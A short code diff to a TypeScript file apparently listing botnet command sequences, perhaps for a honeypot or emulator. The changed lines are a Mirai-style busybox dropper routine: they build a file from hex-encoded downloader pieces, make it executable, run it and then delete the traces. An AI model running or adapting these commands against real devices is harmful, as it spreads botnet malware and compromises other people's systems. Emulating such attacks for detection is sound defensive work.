@@ -41,9 +41,8 @@ export const botnets: Sequence[] = [
     how: 'shell',
     lines: [
       ...miraiPreamble,
-      ...hexPieces(downloader, 32).map(
-        (piece, index) => `/bin/busybox echo -ne '${piece}' ${index === 0 ? '>' : '>>'} upnp; /bin/busybox ECCHI`,
-      ),
+      '/bin/busybox cp /bin/echo upnp; >upnp; /bin/busybox chmod 777 upnp; /bin/busybox ECCHI',
+      ...hexPieces(downloader, 32).map(piece => `/bin/busybox echo -ne '${piece}' >> upnp; /bin/busybox ECCHI`),
       './upnp; ./dvrHelper telnet.x86; /bin/busybox IHCCE',
       'rm -rf upnp; > dvrHelper; /bin/busybox ECCHI',
     ],
